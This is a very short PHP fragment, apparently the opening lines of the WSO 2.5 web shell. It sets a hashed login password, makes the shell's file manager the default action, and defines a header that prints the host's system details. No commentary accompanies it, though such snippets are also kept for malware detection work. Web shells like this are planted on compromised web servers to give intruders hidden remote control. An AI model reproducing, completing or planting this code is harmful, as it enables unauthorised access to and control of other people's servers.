<?php
/* WSO 2.5 */
$auth_pass = "63a9f0ea7bb98050796b649e85481845";
$default_action = 'FilesMan';
function wsoHeader() { echo 'Uname: ' . php_uname(); }
